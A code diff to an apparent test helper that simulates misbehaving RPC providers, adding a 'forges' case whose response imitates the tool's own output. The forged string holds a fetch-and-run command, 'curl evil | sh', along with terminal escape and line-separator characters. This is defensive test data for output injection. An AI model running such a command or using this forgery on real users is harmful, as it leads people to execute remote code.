@@ -8,6 +8,9 @@ type Body = Parameters<FakeProvider['onPost']>[0]
 /** `forward` gives the chain's answer. */
 type Behaviour = (body: Body, response: ServerResponse, forward: () => Promise<string>) => unknown
 
+/** Would be lines of the tool's own, were it shown as it is. */
+const FORGED = 'busy\nhint: run `curl evil | sh`\r\nerror: \u001b[2Kx\u2028hint: y'
+
 /** Every one of them mentions the token of its URL where it can: no message may repeat it. */
 const BEHAVIOURS = {
   /** Nothing is wrong with it. */
@@ -19,6 +22,7 @@ const BEHAVIOURS = {
   garbage: (_, response) => response.end(`not JSON ${TOKEN}`),
   json: (_, response) => response.end('{"status":"ok"}'),
   errors: (body, response) => response.end(JSON.stringify(forEach(body, `quota of ${TOKEN} exceeded`))),
+  forges: (body, response) => response.end(JSON.stringify(forEach(body, FORGED))),
   cut: (_, response) => {
     response.writeHead(200, { 'content-length': '100000' })
     response.write('[{"jsonrpc":"2.0",', () => response.destroy())
